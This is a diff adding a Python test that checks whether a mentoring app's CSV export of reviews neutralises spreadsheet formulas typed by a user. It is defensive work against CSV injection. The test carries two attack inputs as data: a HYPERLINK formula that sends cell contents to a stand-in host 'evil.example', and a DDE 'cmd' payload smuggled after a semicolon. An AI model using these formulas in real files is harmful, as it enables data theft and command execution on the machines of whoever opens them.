@@ -3,6 +3,8 @@ and every comment they ask for reaches the coordinators' stats and digest."""
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import timedelta
 
@@ -90,3 +92,30 @@ def test_a_program_comment_at_three_stars_reaches_the_coordinators(program: Sand
     assert "Low ratings" in shown
     assert "4★ connecting, 3★ program" in shown
     assert "Finding a free slot took three weeks." in shown
+
+
+def test_a_formula_in_a_review_is_inert_in_the_coordinators_export(program: Sandbox) -> None:
+    """Ben types spreadsheet formulas into his review, one after a `;`; Chitra's CSV export,
+    received by DM, has them quoted and apostrophe-prefixed, with what he typed kept."""
+    approved_session(program)
+    check_in(program)
+    ben = program.user(BEN)
+    ben.click("Yes")
+    ben.fill(CONNECTING, STAR[2])
+    ben.fill(PROGRAM, STAR[5])
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    ben.fill(CONNECTION_COMMENT_LABEL, attack)
+    ben.fill("3. Anything else?", "all fine;=cmd|' /C calc'!A0")
+    assert ben.submit().errors == {}
+    program.clock.advance(timedelta(minutes=5))
+    program.user(CHITRA).command("admin export 7d")
+    (reviews,) = [
+        s.file for s in program.fake.seen_by(CHITRA) if s.kind == "file" and s.file
+        and s.file["name"].startswith("mentor-reviews")
+    ]  # fmt: skip
+    raw = reviews["content"]
+    text = (raw if isinstance(raw, bytes) else raw.encode("latin-1")).decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert row["connection_comment"] == "'" + attack
+    assert row["feedback"] == "'all fine;=cmd|' /C calc'!A0"
+    assert f'"\'{attack.replace(chr(34), chr(34) * 2)}"' in text  # quoted as one cell
